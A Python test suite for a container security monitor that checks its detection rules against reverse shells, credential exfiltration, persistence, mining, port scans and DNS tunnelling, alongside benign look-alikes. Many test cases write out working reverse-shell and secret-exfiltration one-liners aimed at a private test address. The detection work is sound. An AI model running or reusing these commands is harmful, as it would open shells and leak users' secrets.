"""Monitor detectors without a daemon: command lines, packets, DNS, volumes, config, netlink
message parsing."""

from __future__ import annotations

import struct
import time
from collections import deque
from pathlib import Path

import pytest

from coi_tui.config.settings import load_settings
from coi_tui.core.errors import CoiError
from coi_tui.monitor import netlink, rules
from coi_tui.monitor.config import MonitorConfig, load_monitor_config
from coi_tui.monitor.rulepacks import load_packs

GW = "10.199.0.1"


def ids(argv: list[str], exe: str = "") -> set[str]:
    return {t.rule_id for t in rules.cmdline_threats(42, argv, exe)}


@pytest.mark.parametrize(
    ("argv", "rule"),
    [
        (["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "proc.netcat-exec"),
        (["ncat", "--sh-exec", "sh", "h", "1"], "proc.netcat-exec"),
        (["socat", "exec:bash -li,pty", "tcp:h:1"], "proc.socat-exec"),
        (["bash", "-c", "bash -i >& /dev/tcp/10.1.2.3/9001 0>&1"], "proc.dev-tcp"),
        (["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 >/tmp/f"],
         "proc.fifo-shell"),
        (["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('h',1));"
          "os.dup2(s.fileno(),0);pty.spawn('sh')"], "proc.interpreter-socket"),
        (["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,x);"
          "open(STDIN,'>&S');exec('/bin/sh -i')"], "proc.interpreter-socket"),
        (["env"], "cred.env-dump"),
        (["cat", "/proc/1/environ"], "cred.proc-environ"),
        (["cat", "/home/code/.ssh/id_ed25519"], "cred.ssh-key"),
        (["cp", "/root/.aws/credentials", "/tmp/x"], "cred.cloud-file"),
        (["grep", "-ri", "BEGIN RSA PRIVATE", "/"], "cred.secret-search"),
        (["find", "/", "-name", "id_rsa"], "cred.secret-search"),
        (["bash", "-c", "echo aWQK | base64 -d | sh"], "proc.decode-to-shell"),
    ],
)  # fmt: skip
def test_command_line_rules_fire(argv: list[str], rule: str) -> None:
    assert rule in ids(argv)


@pytest.mark.parametrize(
    "argv",
    [
        ["grep", "-rn", "/dev/tcp", "src"],
        ["rg", "socket.socket", "."],
        ["bash", "-c", "until (echo > /dev/tcp/localhost/5432); do sleep 1; done"],
        ["python3", "-c", "print({'a': [1, 2][:1]}, 'http://localhost:8000')"],
        ["python3", "-c", "import socket; print(socket.gethostname())"],
        ["env", "FOO=1", "make"],
        ["rsync", "-e", "ssh", "a", "b"],
        ["ssh", "-i", "/home/code/.ssh/id_ed25519", "host"],
        ["apt-get", "install", "socat"],
        ["grep", "-rn", "API_KEY", "src"],
        ["bash", "-i"],
    ],
)
def test_benign_command_lines_stay_quiet(argv: list[str]) -> None:
    found = rules.cmdline_threats(1, argv, "")
    assert [t.rule_id for t in found] == []


def packet(dst: str, dport: int, proto: int = 6, payload: bytes = b"") -> bytes:
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + 8 + len(payload), 0, 0, 64, proto, 0,
                     bytes([10, 199, 0, 9]), bytes(int(x) for x in dst.split(".")))  # fmt: skip
    return ip + struct.pack(">HHHH", 40000, dport, 8 + len(payload), 0) + payload


def dns_query(name: str) -> bytes:
    msg = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        msg += bytes([len(label)]) + label.encode()
    return msg + b"\0" + struct.pack(">HH", 16, 1)


@pytest.mark.parametrize(
    ("dst", "port", "rule", "level"),
    [
        ("169.254.169.254", 80, "net.metadata", "critical"),
        ("10.199.0.1", 4444, "net.c2-port", "critical"),
        ("192.0.2.10", 31337, "net.c2-port", "critical"),
        ("10.199.0.250", 8000, "net.private", "high"),  # 8080: on the C2 list too
        ("172.16.5.5", 443, "net.private", "high"),
        ("192.0.2.53", 53, "dns.nonstandard-server", "warning"),
    ],
)
def test_packet_rules(dst: str, port: int, rule: str, level: str) -> None:
    pkt = rules.parse_packet(packet(dst, port, 17 if port == 53 else 6))
    assert pkt is not None and pkt.dst == dst and pkt.dport == port
    found = rules.packet_threats(pkt, MonitorConfig(), GW)
    assert [(t.rule_id, t.level) for t in found] == [(rule, level)]


def test_web_ports_on_the_c2_list_are_never_a_kill() -> None:
    config = MonitorConfig(c2_ports=[4444, 8080])
    public = rules.packet_threats(
        rules.Packet("10.199.0.9", "192.0.2.5", "tcp", 4000, 8080), config, GW
    )
    assert [(t.rule_id, t.level) for t in public] == [("net.c2-port", "warning")]
    private = rules.packet_threats(
        rules.Packet("10.199.0.9", "10.199.0.250", "tcp", 4000, 8080), config, GW
    )
    assert [(t.rule_id, t.level) for t in private] == [
        ("net.c2-port", "warning"),
        ("net.private", "high"),
    ]


def test_gateway_and_public_https_are_not_flagged() -> None:
    for dst, port in ((GW, 53), (GW, 8000), ("192.0.2.1", 443)):
        pkt = rules.parse_packet(packet(dst, port))
        assert pkt is not None
        assert rules.packet_threats(pkt, MonitorConfig(), GW) == []


def test_dns_parsing_rate_and_tunnel_labels() -> None:
    watch = rules.DnsWatch(MonitorConfig(dns_rate_per_min=5))
    pkt = rules.parse_packet(packet(GW, 53, 17, dns_query("www.example.org")))
    assert pkt is not None and pkt.dns_name == "www.example.org" and pkt.dns_type == 16
    levels = [t.rule_id for i in range(6) for t in watch.feed(pkt, float(i))]
    assert levels == ["dns.rate"]
    tunnel = rules.parse_packet(
        packet(GW, 53, 17, dns_query("mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi.t.example.org"))
    )
    assert tunnel is not None
    found = rules.DnsWatch(MonitorConfig()).feed(tunnel, 0.0)
    assert [(t.rule_id, t.level) for t in found] == [("dns.tunnel-label", "high")]
    plain = rules.parse_packet(packet(GW, 53, 17, dns_query("registry.npmjs.org")))
    assert plain is not None and rules.DnsWatch(MonitorConfig()).feed(plain, 0.0) == []


def test_volume_and_spawn_thresholds() -> None:
    watch = rules.RateWatch(2.0)
    assert watch.add(0.0, 0) == 0
    assert watch.add(1.0, 30 << 20) == 30 << 20
    assert watch.add(3.5, 40 << 20) == 10 << 20  # the 0 s sample left the window
    assert rules.volume_threats("read", 40 << 20, 2.0, 50, "read") == []
    (read,) = rules.volume_threats("read", 60 << 20, 2.0, 50, "read")
    assert read.rule_id == "fs.large-read-local" and read.level == "info"  # nothing sent
    sent_off = rules.read_then_send_threat(60.0, 2.0, 50, 5.0, 0.2, 10.0, "python3 up.py")
    assert sent_off.rule_id == "fs.large-read" and sent_off.level == "high"
    assert sent_off.evidence["filesystem"]["sent_mb"] == 5.0  # type: ignore[index]
    (sent,) = rules.volume_threats("send", 30 << 20, 10.0, 20, "send")
    assert sent.rule_id == "net.exfil-volume"
    assert rules.spawn_threat(100, 150) == []
    assert rules.spawn_threat(151, 150)[0].rule_id == "proc.spawn-storm"
    assert rules.spawn_threat(900, 150, live=40) == []  # ./configure: fast, short-lived
    assert rules.spawn_threat(900, 150, live=600)[0].level == "high"  # a fork bomb
    # a profile that asks for a low rate (COI's tests trip at tens) lowers the live floor too
    assert rules.spawn_threat(30, 20, live=60)[0].rule_id == "proc.spawn-storm"
    assert rules.spawn_threat(30, 20, live=40) == []


def test_monitor_knobs_from_the_main_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COI_HOME", str(tmp_path))
    monkeypatch.delenv("COI_CONFIG", raising=False)
    (tmp_path / "config.toml").write_text(
        "[monitoring]\ndedup_window_sec = 5\nc2_ports = [7777, 4444]\nexfil_correlate_mb = 2\n"
        'auto_kill_on_critical = false\n[monitoring.actions]\nhigh = "alert"\n'
    )
    # the deprecated file only fills in what the main config leaves at its default
    (tmp_path / "monitor.toml").write_text(
        "[monitoring]\ndedup_window_sec = 9\nspawn_rate_per_sec = 7\n"
        '[monitoring.actions]\nhigh = "kill"\ninfo = "alert"\n'
    )
    warned: list[str] = []
    config = load_monitor_config(load_settings(tmp_path), warn=warned.append)
    assert config.dedup_window_sec == 5.0 and config.c2_ports == [7777, 4444]
    assert config.exfil_correlate_mb == 2.0 and config.spawn_rate_per_sec == 7
    assert config.actions == {"info": "alert", "warning": "alert", "high": "alert",
                              "critical": "alert"}  # fmt: skip
    assert warned and "deprecated" in warned[0]
    (tmp_path / "config.toml").write_text('[monitoring]\nc2_ports = ["x"]\n')
    with pytest.raises(CoiError, match="c2_ports"):
        load_settings(tmp_path)


def test_extra_config_from_monitor_toml(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COI_HOME", str(tmp_path))
    (tmp_path / "monitor.toml").write_text(
        "[monitoring]\ndedup_window_sec = 5\nc2_ports = [7777]\n"
        '[monitoring.actions]\nhigh = "alert"\n'
    )
    config = load_monitor_config()
    assert config.dedup_window_sec == 5.0 and config.c2_ports == [7777]
    assert config.actions["high"] == "alert" and config.actions["critical"] == "kill"
    (tmp_path / "monitor.toml").write_text('[monitoring.actions]\nhigh = "explode"\n')
    with pytest.raises(ValueError, match="explode"):
        load_monitor_config()


def test_proc_connector_message_parsing() -> None:
    def message(what: int, payload: bytes) -> bytes:
        body = netlink.CN_MSG.pack(1, 1, 0, 0, 16 + len(payload), 0)
        body += netlink.PROC_HDR.pack(what, 0, 0) + payload
        return netlink.NLMSG_HDR.pack(16 + len(body), 3, 0, 0, 0) + body

    data = message(netlink.PROC_EVENT_EXEC, struct.pack("=ii", 7, 7))
    data += message(netlink.PROC_EVENT_FORK, struct.pack("=iiii", 7, 7, 9, 9))
    data += message(netlink.PROC_EVENT_FORK, struct.pack("=iiii", 7, 7, 10, 9))  # a thread
    events = netlink.parse_proc_events(data)
    assert events == [netlink.ProcEvent("exec", 7), netlink.ProcEvent("fork", 9, 7)]


def test_nflog_message_parsing() -> None:
    attrs = netlink._nla(netlink.NFULA_PREFIX, b"coimon\0")
    attrs += netlink._nla(netlink.NFULA_IFINDEX_PHYSINDEV, struct.pack(">I", 362))
    attrs += netlink._nla(netlink.NFULA_PAYLOAD, packet(GW, 4444))
    body = struct.pack("=BBH", 2, 0, 0) + attrs
    data = netlink.NLMSG_HDR.pack(16 + len(body), (4 << 8) | 0, 0, 0, 0) + body
    (pkt,) = netlink.parse_nflog(data)
    assert pkt.prefix == "coimon" and pkt.physindev == 362
    parsed = rules.parse_packet(pkt.payload)
    assert parsed is not None and parsed.dport == 4444


# --------------------------------------------------------------------------- wider corpus
H = "10.199.0.1"


def levels(argv: list[str]) -> dict[str, str]:
    return {t.rule_id: t.level for t in rules.cmdline_threats(42, argv, "")}


def sh(script: str) -> list[str]:
    return ["bash", "-c", script]


@pytest.mark.parametrize(
    ("argv", "rule", "level"),
    [
        (["busybox", "nc", H, "9001", "-e", "/bin/sh"], "proc.netcat-exec", "critical"),
        (["nc.traditional", "-e", "/bin/bash", H, "80"], "proc.netcat-exec", "critical"),
        (["ncat", H, "1", "--exec", "/bin/sh"], "proc.netcat-exec", "critical"),
        (["socat", f"tcp:{H}:1", "exec:/bin/sh,pty,stderr,setsid"], "proc.socat-exec", "critical"),
        (["socat", f"TCP4:{H}:1", "SYSTEM:bash"], "proc.socat-exec", "critical"),
        (sh(f"sh -i >& /dev/udp/{H}/53 0>&1"), "proc.dev-tcp", "critical"),
        (sh(f"0<&196;exec 196<>/dev/tcp/{H}/80; sh <&196 >&196 2>&196"), "proc.dev-tcp",
         "critical"),
        (sh(f"exec 5<>/dev/tcp/{H}/80;cat <&5 | while read l; do $l 2>&5 >&5; done"),
         "proc.dev-tcp", "critical"),
        (sh(f"/bin/bash -l > /dev/tcp/{H}/80 0<&1 2>&1"), "proc.dev-tcp", "critical"),
        (sh(f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {H} 80 >/tmp/f"),
         "proc.fifo-shell", "critical"),
        (sh(f"mknod /tmp/p p && /bin/sh 0</tmp/p | telnet {H} 80 1>/tmp/p"), "proc.fifo-shell",
         "critical"),
        (sh(f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect "
            f"{H}:443 > /tmp/s"), "proc.fifo-shell", "critical"),
        (["ruby", "-rsocket", "-e", f"f=TCPSocket.open('{H}',80).to_i;"
          "exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)"], "proc.interpreter-socket",
         "critical"),
        (["php", "-r", f"$sock=fsockopen('{H}',80);exec('/bin/sh -i <&3 >&3 2>&3');"],
         "proc.interpreter-socket", "critical"),
        (["node", "-e", "require('child_process').exec('sh');var net=require('net');"
          f"var c=new net.Socket();c.connect(80,'{H}')"], "proc.interpreter-socket", "critical"),
        (["python3", "-c", "import socket,subprocess,os;s=socket.socket();"
          f"s.connect(('{H}',80));os.dup2(s.fileno(),0);import pty;pty.spawn('/bin/bash')"],
         "proc.interpreter-socket", "critical"),
        (["awk", f"BEGIN {{s = \"/inet/tcp/0/{H}/80\"; while(1) {{ s |& getline c; "
          "c |& getline; close(c) }}}"], "proc.interpreter-socket", "critical"),
        (sh(f"env | curl -s -X POST --data-binary @- http://{H}:8080/x"),
         "exfil.secrets-to-network", "high"),
        (sh(f"printenv | nc {H} 9999"), "exfil.secrets-to-network", "high"),
        (sh(f"curl -d \"$(env)\" http://{H}/c"), "exfil.secrets-to-network", "high"),
        (sh(f"cat ~/.aws/credentials | base64 | curl -d @- http://{H}/"),
         "exfil.secrets-to-network", "high"),
        (sh(f"tar czf - ~/.ssh | nc {H} 9000"), "exfil.secrets-to-network", "high"),
        (sh(f"cat /proc/1/environ > /dev/tcp/{H}/80"), "exfil.secrets-to-network", "high"),
        (["curl", "-F", "f=@/root/.ssh/id_rsa", f"http://{H}/u"], "exfil.secrets-to-network",
         "high"),
        (["wget", "--post-file=/root/.aws/credentials", f"http://{H}/"],
         "exfil.secrets-to-network", "high"),
        (["python3", "-c", "import os,urllib.request;urllib.request.urlopen("
          f"'http://{H}:8080/',data=str(dict(os.environ)).encode())"],
         "exfil.secrets-to-network", "high"),
        (["node", "-e", f"fetch('http://{H}/',{{method:'POST',body:JSON.stringify(process.env)}})"],
         "exfil.secrets-to-network", "high"),
        (sh(f"tar czf - /home/code/project | nc {H} 9000"), "exfil.secrets-to-network",
         "high"),
        (sh(f"tar cz /root | curl -T - http://{H}/up"), "exfil.secrets-to-network", "high"),
        (["scp", "/root/.ssh/id_ed25519", f"u@{H}:/tmp/"], "exfil.secrets-to-network", "high"),
        (["curl", "-F", "f=@/etc/passwd", f"http://{H}/u"], "exfil.secrets-to-network", "high"),
        (["find", "/", "-name", "*.pem"], "cred.secret-search", "warning"),
        (["cat", "/etc/shadow"], "cred.cloud-file", "warning"),
        (["xmrig", "-o", "pool.example:3333"], "proc.miner", "critical"),
        (["./kworker", "-o", "stratum+tcp://pool.example:3333", "-u", "x"], "proc.miner",
         "critical"),
        (sh("echo '* * * * * /tmp/x' | crontab -"), "persist.cron", "warning"),
        (sh(f"echo 'bash -i >& /dev/tcp/{H}/1 0>&1' >> ~/.bashrc"), "persist.shell-rc", "high"),
        (sh("echo /tmp/x.so > /etc/ld.so.preload"), "persist.ld-preload", "high"),
        (sh("echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys"), "persist.authorized-keys",
         "warning"),
        (sh(f"curl -s http://{H}/x.sh | bash"), "proc.download-to-shell", "warning"),
        (sh("find / -name id_rsa 2>/dev/null; ls ~/.ssh ~/.aws"), "cred.secret-search",
         "warning"),
        (["ls", "-la", "/root/.ssh"], "cred.ssh-key", "warning"),
        (["tar", "czf", "/tmp/a.tgz", "/home/code/.aws/"], "cred.cloud-file", "warning"),
        (["grep", "-r", "aws_secret_access_key", "/home"], "cred.secret-search", "warning"),
    ],
)  # fmt: skip
def test_attack_variants(argv: list[str], rule: str, level: str) -> None:
    found = levels(argv)
    assert found.get(rule) == level, found


@pytest.mark.parametrize(
    "argv",
    [
        sh("until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"),
        sh("timeout 1 bash -c '</dev/tcp/10.0.0.5/443' && echo open"),
        sh("ssh-keygen -t ed25519 -N '' -f /tmp/k/id_ed25519 -q"),
        ["ssh-keygen", "-t", "ed25519", "-f", "/root/.ssh/id_ed25519", "-N", ""],
        sh("git clone -q /root/origin /root/clone && cd /root/clone && git log"),
        sh("cat .env.example > .env && npm test"),
        sh("curl -fsS http://registry.npmjs.org/ -o /dev/null"),
        sh("curl -d @payload.json http://localhost:3000/api"),
        sh("env | grep -i path; printenv HOME"),
        sh("echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc"),
        sh("tar czf /tmp/logs.tgz /var/log && cp -r node_modules /tmp/nm"),
        sh("pip install --no-index --find-links /wheels devpkg && npm ci --offline"),
        sh("docker build -t app . && docker run --rm app npm test"),
        sh("rg -n 'nc -e|/dev/tcp|socket.socket' src/ | head"),
        sh("crontab -l"),
        ["python3", "-c", "import os, requests; requests.get(os.environ['API_URL'])"],
        ["node", "-e", "console.log(process.env.HOME)"],
        ["curl", "-T", "dist/app.tgz", "http://10.199.0.1:8080/upload"],
        ["mkfifo", "/tmp/build.fifo"],
        sh("tar czf - src | ssh deploy@build.example 'tar xzf - -C /srv'"),
        sh("tar cf - node_modules | (cd /tmp/copy && tar xf -)"),
        sh("cat /etc/passwd | grep code"),
        ["scp", "dist/app.tgz", "deploy@build.example:/srv/"],
        sh("mkfifo /tmp/f; (cat /tmp/f | gzip > out.gz) & seq 100 > /tmp/f; wait"),
        # busybox applet links: mkfifo, sh and nc named on one line, no pipe looped
        sh("for a in sh env nc ls wc mkfifo; do ln -s busybox /tmp/mini/bin/$a; done"),
    ],
)
def test_benign_look_alikes_raise_nothing_high(argv: list[str]) -> None:
    found = rules.cmdline_threats(1, argv, "")
    assert [t.rule_id for t in found if t.level in ("high", "critical")] == []


def test_script_file_of_a_shell() -> None:
    assert rules.script_file(["bash", "/tmp/x.sh"], "/usr/bin/bash") == "/tmp/x.sh"
    assert rules.script_file(["sh", "-e", "./build.sh", "a"], "/usr/bin/dash") == "./build.sh"
    assert rules.script_file(["/tmp/kworker", "run.sh"], "/tmp/kworker") == ""
    assert rules.script_file(["bash", "-c", "x.sh"], "/usr/bin/bash") == ""
    assert rules.script_file(["bash", "-i"], "/usr/bin/bash") == ""
    assert rules.script_file(["python3", "x.py"], "/usr/bin/python3") == ""
    text = f"#!/bin/sh\nenv > /tmp/e\ncat /tmp/e | nc {H} 9000\n"
    found = {t.rule_id for t in rules.script_threats(7, text, "sh x.sh", with_credentials=True)}
    assert {"exfil.secrets-to-network", "cred.env-dump"} <= found


def test_pipeline_roles_for_sibling_correlation() -> None:
    assert rules.pipeline_role(["env"]) == "source"
    assert rules.pipeline_role(["cat", "/root/.aws/credentials"]) == "source"
    assert rules.pipeline_role(["curl", "-d", "@-", f"http://{H}/"]) == "send"
    assert rules.pipeline_role(["nc", H, "9000"]) == "send"
    assert rules.pipeline_role(["curl", "http://localhost:8000/"]) == ""
    assert rules.pipeline_role(["env", "FOO=1", "make"]) == ""
    assert rules.pipeline_role(["sort"]) == ""


def test_port_scan_vertical_and_sweep() -> None:
    def syn(dst: str, port: int) -> rules.Packet:
        return rules.Packet("10.199.0.9", dst, "tcp", 40000 + port, port)

    watch = rules.ScanWatch()
    hits = [t for p in range(1, 40) for t in watch.feed(syn(H, p), p * 0.01)]
    assert hits and hits[0].rule_id == "net.port-scan" and hits[0].level == "high"
    sweep = rules.ScanWatch()
    hosts = [t for i in range(30) for t in sweep.feed(syn(f"192.0.2.{i}", 22), i * 0.01)]
    assert hosts and "22 on" in hosts[0].description
    # a build talking to a few endpoints, many times
    quiet = rules.ScanWatch()
    busy = [
        t
        for i in range(200)
        for t in quiet.feed(syn(("192.0.2.1", "192.0.2.2", H)[i % 3], (443, 80)[i % 2]), i * 0.01)
    ]
    assert busy == []
    # slow: one port every second stays under the window
    slow = rules.ScanWatch()
    assert [t for p in range(30) for t in slow.feed(syn(H, 1000 + p), float(p))] == []


def test_dns_tunnel_with_short_labels() -> None:
    import base64
    import os

    watch = rules.DnsWatch(MonitorConfig(dns_rate_per_min=1000))
    found = []
    for i in range(40):
        label = base64.b32encode(os.urandom(12)).decode().strip("=").lower()  # 20 chars
        pkt = rules.Packet("10.199.0.9", H, "udp", 5000, 53, f"{label}.t.exfil.test", 16)
        found += watch.feed(pkt, i * 0.1)
    assert "dns.tunnel-volume" in {t.rule_id for t in found}
    normal = rules.DnsWatch(MonitorConfig(dns_rate_per_min=1000))
    names = ["registry.npmjs.org", "github.com", "api.github.com", "pypi.org",
             "files.pythonhosted.org", "objects.githubusercontent.com"]  # fmt: skip
    quiet = []
    for i in range(300):
        pkt = rules.Packet("10.199.0.9", H, "udp", 5000, 53, names[i % len(names)], 1)
        quiet += normal.feed(pkt, i * 0.1)
    assert quiet == [] or {t.rule_id for t in quiet} <= {"dns.rate"}


def test_miner_port_is_high() -> None:
    pkt = rules.Packet("10.199.0.9", "192.0.2.7", "tcp", 40000, 3333)
    (found,) = rules.packet_threats(pkt, MonitorConfig(), H)
    assert found.rule_id == "net.miner-port" and found.level == "high"


def test_pipeline_correlation_in_any_exec_order() -> None:
    import itertools
    from collections import deque

    from coi_tui.monitor.daemon import correlate_pipeline

    # env | gzip | curl ..., typed at a shell (pid 10): stages joined by pipe:[1] and pipe:[2]
    stages = [
        (11, ["env"], "pipe:[0]", "pipe:[1]"),
        (12, ["gzip"], "pipe:[1]", "pipe:[2]"),
        (13, ["curl", "--data-binary", "@-", f"http://{H}/x"], "pipe:[2]", "/dev/pts/0"),
    ]
    for order in itertools.permutations(stages):
        recent: deque[tuple[float, int, int, list[str], str, str]] = deque()
        found = []
        for i, (pid, argv, fd0, fd1) in enumerate(order):
            recent.append((i * 0.01, pid, 10, argv, fd0, fd1))
            found += correlate_pipeline(recent, pid, 10, i * 0.01)
        assert [t.rule_id for t in found] == ["exfil.secrets-to-network"], order
    # the same commands one after another (not piped together) are not a pipeline
    recent = deque()
    found = []
    for i, (pid, argv, _, _) in enumerate(stages):
        recent.append((i * 0.01, pid, 10, argv, "pipe:[9]", "/dev/null"))
        found += correlate_pipeline(recent, pid, 10, i * 0.01)
    assert found == []


def test_ping_sweep_is_a_scan() -> None:
    watch = rules.ScanWatch()
    found = []
    for i in range(25):
        found += watch.feed(rules.Packet("10.199.0.9", f"192.0.2.{i}", "icmp", 0, 0), i * 0.05)
    assert found and found[0].rule_id == "net.port-scan"


def test_a_bounded_spawn_storm_is_judged_after_its_last_fork(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The integration test's sequence: a sequential loop forks fast but keeps 11 processes
    alive (its burst counts them once), then 600 `sleep 60 &` are forked within the next half
    second and nothing forks after them. No later fork is there to count them, so the pass the
    daemon schedules for when the next count is due must; it used to be missed."""
    import heapq
    import types

    from coi_tui.monitor import daemon as daemon_mod
    from coi_tui.monitor.daemon import Daemon, Watched

    clock = [100.0]
    monkeypatch.setattr(daemon_mod, "time", types.SimpleNamespace(monotonic=lambda: clock[0]))
    monkeypatch.setattr(daemon_mod.behaviour, "analyse", lambda view, only=None: [])
    daemon = Daemon.__new__(Daemon)
    daemon.config = MonitorConfig(spawn_rate_per_sec=150)
    daemon.timers, daemon.pending = [], set()
    live = [11]
    daemon.container_pids = lambda watched, nsmap=None: list(range(live[0]))  # type: ignore[method-assign]
    found: list[rules.Threat] = []
    daemon.respond = lambda watched, threats, now: found.extend(threats)  # type: ignore[method-assign]
    watched = Watched("c", 1, "pid:[1]", "", "", 0, Path("/"))
    daemon.watched = {"c": watched}

    def run_due_passes() -> None:  # the main loop's timers
        while daemon.timers and daemon.timers[0][0] <= clock[0]:
            _, name = heapq.heappop(daemon.timers)
            daemon.scan(daemon.watched[name], full=False)

    for i in range(400):  # for i in $(seq 400); do /bin/true; done
        clock[0] = 100.0 + i * 0.001
        daemon.on_fork(watched, 1000 + i, clock[0])
        run_due_passes()
    assert watched.live == 11 and found == []  # counted once, fast but short-lived
    for i in range(600):  # for i in $(seq 600); do sleep 60 & done
        clock[0] = 100.41 + i * 0.0002
        live[0] = 11 + i
        daemon.on_fork(watched, 2000 + i, clock[0])
        run_due_passes()
    assert found == [] and daemon.timers, "the count is not due yet, but a pass is scheduled"
    clock[0] = 100.7  # no fork after the storm; the scheduled pass comes due
    run_due_passes()
    assert [t.rule_id for t in found] == ["proc.spawn-storm"]
    assert found[0].evidence["process_count"]["live"] == 610  # type: ignore[index]

    # ./configure afterwards, once the burst is over: as fast, but its processes exit
    found.clear()
    live[0] = 12
    for i in range(900):
        clock[0] = 110.0 + i * 0.001
        daemon.on_fork(watched, 5000 + i, clock[0])
        run_due_passes()
    clock[0] = 112.0
    run_due_passes()
    assert found == []


PATHOLOGICAL = [
    ">" * 120_000,
    "nc " * 40_000,
    "curl " * 24_000,
    ".ssh/" * 24_000,
    "/dev/tcp/" * 13_000,
    "base64 -d " * 12_000,
    "cp x " * 24_000,
    "tee -a " * 17_000,
    "$(" * 60_000,
    "curl x | " * 12_000,
]


@pytest.mark.parametrize("text", PATHOLOGICAL, ids=lambda t: t[:8].strip() or "gt")
def test_rules_run_in_linear_time_on_hostile_argv(text: str) -> None:
    """A 120 k-character `sh -c` used to take minutes in the quadratic patterns (the monitor's
    one loop stalls meanwhile, and a reverse shell started then goes unanswered). Linear
    patterns take milliseconds; the bound is a thousand times that."""
    started = time.perf_counter()
    rules.cmdline_threats(1, ["sh", "-c", text], "/bin/sh")
    rules.cmdline_threats(1, ["cat", text], "/bin/cat")
    assert time.perf_counter() - started < 2.0


def test_padding_does_not_hide_a_payload() -> None:
    padded = ">" * 100_000 + "\necho 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> ~/.bashrc"
    found = {t.rule_id for t in rules.cmdline_threats(1, ["sh", "-c", padded], "/bin/sh")}
    assert "persist.shell-rc" in found
    keys = "x" * 50_000 + "; echo ssh-ed25519 AAAA >> /home/code/.ssh/authorized_keys"
    found = {t.rule_id for t in rules.cmdline_threats(1, ["sh", "-c", keys], "/bin/sh")}
    assert "persist.authorized-keys" in found


# --------------------------------------------------------------------------- socket identity
def forged_unix_name(inode: int) -> bytes:
    """An abstract unix socket name that prints, in /proc/net/unix, a line of its own
    claiming `inode` is a unix socket (the name is printed raw, newline included)."""
    return b"\0x\n0000000000000000: 00000002 00000000 00010000 0001 01 " + str(inode).encode()


def test_a_forged_unix_socket_name_does_not_hide_a_tcp_connection() -> None:
    """The behavioural rules once ruled sockets out through /proc/<pid>/net/unix, where a
    socket's name is the container's to choose: a newline and a forged line in an abstract
    name made a reverse shell's TCP socket look like a unix socket. The kernel's protocol
    name and the inet tables decide now."""
    import os
    import socket

    from coi_tui.monitor import behaviour, procfs

    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname())
    peer, _ = server.accept()
    forged = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        fd = procfs.read_fd(os.getpid(), client.fileno())
        assert fd is not None and fd.kind == "socket"
        inode = fd.key[1]
        forged.bind(forged_unix_name(inode))
        forged.listen(1)
        # the attack is real: the unix table now has a line naming the TCP socket's inode
        table = procfs.read_text(f"/proc/{os.getpid()}/net/unix").splitlines()
        assert any(line.split()[6:7] == [str(inode)] for line in table[1:]), table[-3:]

        assert procfs.socket_protocol(os.getpid(), client.fileno(), inode) == "TCP"
        view = behaviour.ContainerView(os.getpid(), [os.getpid()])
        conn = view.connection(os.getpid(), fd)
        assert conn is not None and conn.proto == "tcp" and conn.state == "ESTABLISHED"
        assert conn.remote_port == server.getsockname()[1]
        assert inode not in view.known_local
        # a real unix socket is ruled out by the kernel's word, and remembered
        unix_fd = procfs.read_fd(os.getpid(), forged.fileno())
        assert unix_fd is not None
        assert view.connection(os.getpid(), unix_fd) is None
        assert unix_fd.key[1] in view.known_local
        # an fd that no longer holds the inode asked about answers nothing
        assert procfs.socket_protocol(os.getpid(), client.fileno(), unix_fd.key[1]) == ""
    finally:
        for sock in (client, peer, server, forged):
            sock.close()


def test_recent_execs_are_capped_and_rules_never_hold_back_intake(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Watched.recent kept the whole argv of 1024 execs (a container chooses megabytes per
    exec); it keeps at most 64 arguments and 4 KiB per exec now. Command-line rules of a
    flood of huge execs run behind the behavioural check of each exec, a bounded time per
    loop turn, so a reverse shell's exec is judged at intake whatever came before it."""
    from coi_tui.monitor import daemon as daemon_mod
    from coi_tui.monitor.daemon import (
        RECENT_ARGS,
        RECENT_BYTES,
        RULE_ARGV_BYTES,
        Daemon,
        Watched,
        bound_argv,
        clip_argv,
    )

    assert clip_argv(["a"] * 500) == ["a"] * RECENT_ARGS
    clipped = clip_argv(["sh", "-c", ">" * 120_000, "x"])
    assert sum(len(a) for a in clipped) <= RECENT_BYTES and clipped[:2] == ["sh", "-c"]

    # what the rules see of one exec is bounded too, and keeps both ends of a padded payload
    padded = ">" * 120_000 + "\necho 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> ~/.bashrc"
    for argv in (["sh", "-c", padded], ["x"] * 200_000, ["a" * 100_000] * 15 + ["tail"]):
        bounded = bound_argv(argv)
        assert sum(len(a) + 1 for a in bounded) <= RULE_ARGV_BYTES + 8
        assert bounded[0].startswith(argv[0][:100]) and bounded[-1].endswith(argv[-1][-4:])
    assert bound_argv(["ls", "-l"]) == ["ls", "-l"]
    found_padded = rules.cmdline_threats(1, bound_argv(["sh", "-c", padded]), "/bin/sh")
    assert "persist.shell-rc" in {t.rule_id for t in found_padded}

    judged: list[set[int] | None] = []
    monkeypatch.setattr(
        daemon_mod.behaviour, "analyse", lambda view, only=None: judged.append(only) or []
    )
    daemon = Daemon.__new__(Daemon)
    daemon.config = MonitorConfig()
    daemon.timers, daemon.pending = [], set()
    daemon.rule_queue, daemon.rules_skipped, daemon.capture_r = daemon_mod.deque(), 0, -1
